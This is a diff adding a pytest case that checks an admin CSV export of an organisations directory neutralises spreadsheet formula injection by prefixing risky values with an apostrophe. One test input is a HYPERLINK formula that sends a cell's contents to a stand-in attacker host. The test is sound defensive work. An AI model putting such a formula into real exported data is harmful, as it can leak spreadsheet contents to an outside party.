@@ -103,6 +103,29 @@ def test_coordinators_export_the_directory_as_csv(client, profile, make_org):
     assert "L12345678A" in rows[2] and "Vëzhgimi i zgjedhjeve" in rows[2]
 
 
+@pytest.mark.parametrize(
+    ("typed", "exported"),
+    [
+        ('=HYPERLINK("http://ev.il/"&B2)', '\'=HYPERLINK("http://ev.il/"&B2)'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("Qendra = Pukë", "Qendra = Pukë"),
+    ],
+)
+def test_the_csv_export_never_holds_a_live_formula(client, make_org, typed, exported):
+    title = typed if typed.strip() == typed else "Qendra"  # Wagtail trims titles
+    make_org(title, acronym=typed, phone=typed)
+    client.force_login(coordinator())
+    response = client.get("/admin/organisations/export.csv")
+    assert response.content.startswith("\ufeff".encode())
+    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
+    assert row[1] == row[10] == exported  # acronym, phone
+    assert row[0] == (exported if title == typed else "Qendra")
+
+
 def test_export_is_refused_without_the_permission(client, profile):
     user = User.objects.create_user("redaktor", password="x", is_staff=True)
     user.user_permissions.add(Permission.objects.get(codename="access_admin"))
